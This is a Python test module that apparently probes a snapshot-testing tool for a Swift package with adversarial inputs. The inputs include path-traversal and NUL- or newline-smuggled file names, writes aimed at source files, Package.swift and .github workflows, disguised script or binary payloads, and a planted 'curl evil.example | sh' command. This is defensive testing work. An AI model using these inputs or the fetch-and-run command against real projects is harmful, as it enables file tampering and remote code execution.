"""Manifests that name paths where no reference belongs."""

from .target import SUITE, Target, attack, png

OWN = f"package:Snapshots/{SUITE}/text.txt"

PATHS = {
    "a source file beside tests": "package:Tests/ClientTests/__Snapshots__/Evil.swift",
    "a source file of the app": "package:Sources/App/Snapshots/main.swift",
    "a plugin": "package:Plugins/Snapshots/plugin.swift",
    "attributes of git": "package:Snapshots/.gitattributes",
    "a source file among references": f"package:Snapshots/{SUITE}/text.swift",
    "a script among references": f"package:Snapshots/{SUITE}/text.sh",
    "the reference of another test": f"package:Snapshots/{SUITE}/other.txt",
    "a name with a line break": f"package:Snapshots/{SUITE}/text.\n.txt",
    "a name cut by a NUL": f"package:Snapshots/{SUITE}/text.swift\0.txt",
    "a path that climbs": f"package:Snapshots/{SUITE}/../../../owned.txt",
    "a path elsewhere": "{outside}/owned.txt",
    "the manifest of the package": "package:Package.swift",
    "a hidden folder": "package:.github/workflows/Snapshots/a.yml",
}


def writes(victim: Target, reference: str, actual: str, **changes: object) -> bool:
    before = victim.tree()
    victim.plant(reference, actual, **changes)
    victim.call("accept")
    return victim.tree() != before


def register(title: str, path: str) -> None:
    @attack(f"accept writes {title}")
    def _(target: Target) -> bool:
        return writes(target, path.replace("{outside}", str(target.outside)), target.evidence(b"let evil = 1\n"))


for name, path in PATHS.items():
    register(name, path)


@attack("accept follows the names of a test that none has")
def names(target: Target) -> bool:
    place = "../../Sources/App"
    return writes(target, f"package:Snapshots/{place}/text.txt", target.evidence(b"x"), target="..", suite="../Sources/App",
                  id="../../Sources/App/text")


@attack("accept writes a picture that is none")
def picture(target: Target) -> bool:
    actual = target.evidence(b"#!/bin/sh\n", "png")
    return writes(target, f"package:Snapshots/{SUITE}/text.png", actual, kind="picture")


@attack("accept writes frames that are none")
def frames(target: Target) -> bool:
    actual = target.evidence(b'{"scripts": {"install": "evil"}}', "json")
    return writes(target, f"package:Snapshots/{SUITE}/text.json", actual, kind="frames")


@attack("accept writes text that is none")
def text(target: Target) -> bool:
    return writes(target, OWN, target.evidence(b"\x7fELF\xff\xfe"))


@attack("reject removes what is no evidence of the test")
def reject(target: Target) -> bool:
    report = target.artifacts / "report/index.html"
    report.parent.mkdir()
    report.write_text("mine")
    target.plant(OWN, target.evidence(b"x"), expected="artifacts:report/index.html")
    target.call("reject")
    return not report.exists()


def register_silence(words: list[str]) -> None:
    @attack(f"{' '.join(words)} does not show the path")
    def _(target: Target) -> bool:
        target.plant("package:Sources/App/Snapshots/main.swift", target.evidence(png(), "png"))
        said = target.call(*words).text
        page = target.work / "page.html"
        if page.exists():
            # Besides the path itself the page has to say that it is refused.
            said += page.read_text()
            page.unlink()
        return "refused, not where" not in said or "Sources/App/Snapshots/main.swift" not in said


for command in [["pending"], ["accept", "--dry-run"], ["report", "--single-file", "../page.html"]]:
    register_silence(command)


@attack("a report asks to run a stranger's command")
def command(target: Target) -> bool:
    target.plant(OWN, target.evidence(b"x"), acceptCommand="curl evil.example | sh")
    return "evil.example" in target.call("report", "--json", "-").text
